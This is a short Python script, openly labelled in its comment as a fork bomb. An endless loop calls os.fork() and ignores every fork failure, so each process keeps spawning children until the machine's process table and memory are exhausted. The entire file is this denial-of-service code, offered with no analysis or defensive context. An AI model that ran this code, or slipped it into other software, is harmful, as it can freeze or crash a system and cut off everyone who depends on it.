# Fork bomb: forks until refused, and every child forks too; prints nothing useful.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
